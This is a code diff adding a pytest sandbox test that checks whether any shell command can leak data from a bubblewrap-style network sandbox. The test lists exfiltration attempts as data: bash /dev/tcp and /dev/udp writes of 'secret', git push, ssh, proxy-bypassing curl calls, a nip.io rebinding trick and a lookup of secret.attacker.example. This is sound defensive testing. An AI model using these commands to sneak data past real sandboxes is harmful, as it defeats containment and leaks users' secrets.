@@ -9,6 +9,7 @@ from pathlib import Path
 
 import pytest
 
+from akmon_core.permissions import Rule
 from akmon_core.tools import ToolOutput
 from akmon_tools.jobs import Jobs
 from akmon_tools.outputs import Outputs
@@ -17,7 +18,7 @@ from akmon_tools.sandbox.bubblewrap import Bubblewrap, find_bwrap
 from akmon_tools.sandbox.network import Network
 from akmon_tools.shell import ShellArguments, ShellTool
 from akmon_tools.workspace import Workspace
-from tests.tools.sandbox.networks import World, allow, in_a_box, without_proxies
+from tests.tools.sandbox.networks import World, allow, counting, in_a_box, without_proxies
 from tests.tools.webs import CONTEXT, page, site
 
 pytestmark = in_a_box
@@ -95,3 +96,28 @@ def test_commands_at_the_same_time_share_the_proxy(tmp_path: Path) -> None:
         line = "for i in 1 2 3 4 5; do curl -sS http://open.example/ & done; wait"
         (output,) = run(network, tmp_path, line)
     assert output.text.startswith("hello" * 5)
+
+
+@pytest.mark.parametrize("rules", [(), allow("pypi.org"), allow("*")], ids=["none", "one", "all"])
+def test_nothing_is_taken_out_by_any_program(rules: tuple[Rule, ...], tmp_path: Path) -> None:
+    """EX-001 to EX-014, with any rules: nobody comes to the port, and the command looks nothing up itself."""
+    with counting() as (port, came):
+        commands = (
+            f"bash -c 'echo secret > /dev/udp/127.0.0.1/{port}'",
+            f"bash -c 'echo secret > /dev/tcp/127.0.0.1/{port}'",
+            f"git init -q x && git -C x push http://127.0.0.1:{port}/x.git HEAD",
+            f"git -C x ls-remote http://127.0.0.1:{port}/x.git",
+            f"ssh -o BatchMode=yes -o ConnectTimeout=1 -p {port} 127.0.0.1",
+            f"curl -s -m 5 --noproxy '*' http://127.0.0.1:{port}/",
+            f"curl -s -m 5 --proxy '' http://127.0.0.1:{port}/",
+            f"curl -s -m 5 http://127.0.0.1:{port}/",
+            f"curl -s -m 5 http://127.0.0.1.nip.io:{port}/",
+            "getent hosts secret.attacker.example",
+        )
+        world = World(port, {"127.0.0.1.nip.io": ("127.0.0.1",)})
+        outputs = run(world.network(*rules), tmp_path, *commands)
+    failing = [*outputs[1:6], outputs[9]]  # curl calls it well where it got the proxy's refusal to show
+    assert all(output.error for output in failing)
+    assert came == []
+    assert world.dialled == []
+    assert set(world.looked_up) <= {"127.0.0.1.nip.io"}
